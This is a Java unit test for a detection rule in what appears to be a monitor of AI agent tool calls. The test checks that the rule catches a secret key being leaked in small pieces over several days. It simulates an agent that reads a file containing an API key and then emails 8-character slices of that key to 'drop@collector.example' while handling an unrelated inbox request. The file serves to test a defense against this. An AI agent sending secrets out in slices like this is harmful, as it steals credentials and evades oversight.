package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.engine.state.MemoryStateTable;
import io.weir.engine.state.StateTable;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.Hop;
import io.weir.schemas.event.RecordPlace;
import io.weir.schemas.event.ToolCallScanned;
import io.weir.schemas.word.HopKind;
import io.weir.testkit.event.Times;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class DripWindowTest {

    private static final String KEY = "Zq7Lw2Xk9Vb4Nt6Ry1Pd8Hf3Jg5Ms0Ac";
    private static final int SLICE_UNITS = 8;
    private static final String REQUEST = "Tidy up my inbox, please.";

    private final Desk desk = Desk.fresh();
    private final StateTable state = new MemoryStateTable();
    private final SessionRules rules = new SessionRules(KeptForms.inMemory());
    private final long start;
    private int offset;

    DripWindowTest() {
        var read = desk.reads("read_file", Map.of("content", "api_key = \"" + KEY + "\""));
        start = read.timeMillis();
        rules.apply(state, new PlacedEvent(read, new RecordPlace("calls", 0, offset++)));
    }

    @Test
    void addsUpWhatWentOutWithinTheWindow() {
        List<AlertRaised> alerts = sendSlices(Duration.ofHours(30));

        assertThat(alerts).isNotEmpty();
        AlertRaised first = alerts.get(0);
        assertThat(first.rule()).isEqualTo(DripRule.RULE);
        assertThat(first.links().get(0).reasons()).anyMatch(reason -> reason.endsWith("of the session within 7 days"));
        assertThat(first.path()).extracting(Hop::kind).startsWith(HopKind.READ, HopKind.WRITE, HopKind.WRITE);
        assertThat(first.path()).extracting(Hop::place).doesNotContainNull().doesNotHaveDuplicates();
    }

    @Test
    void forgetsWhatWentOutLongerAgoThanTheWindow() {
        assertThat(sendSlices(Duration.ofDays(8))).isEmpty();
    }

    @Test
    void judgesACallThatComesLateAtItsOwnTime() {
        // Given two slices, the second of them a day later
        List<ToolCallScanned> calls = slices(Duration.ofHours(10));
        rules.apply(state, PlacedEvent.unplaced(calls.get(0)));
        rules.apply(state, PlacedEvent.unplaced(calls.get(3)));

        // When those in between arrive afterwards
        List<AlertRaised> alerts = new ArrayList<>(rules.apply(state, PlacedEvent.unplaced(calls.get(2))));
        alerts.addAll(rules.apply(state, PlacedEvent.unplaced(calls.get(1))));

        // Then
        assertThat(alerts).isNotEmpty();
        assertThat(alerts.get(alerts.size() - 1).path())
                .extracting(Hop::timeMillis)
                .isSorted();
    }

    private List<AlertRaised> sendSlices(Duration apart) {
        List<AlertRaised> alerts = new ArrayList<>();
        for (ToolCallScanned call : slices(apart)) {
            alerts.addAll(rules.apply(state, new PlacedEvent(call, new RecordPlace("calls", 0, offset++))));
        }
        return alerts;
    }

    private List<ToolCallScanned> slices(Duration apart) {
        List<ToolCallScanned> calls = new ArrayList<>();
        for (int at = 0; at + SLICE_UNITS <= KEY.length(); at += SLICE_UNITS) {
            String slice = KEY.substring(at, at + SLICE_UNITS);
            ToolCallScanned call = desk.calls(
                            "send_email", Map.of("to", "drop@collector.example", "body", slice), REQUEST)
                    .event();
            calls.add(Times.at(call, start + (calls.size() + 1) * apart.toMillis()));
        }
        return calls;
    }
}
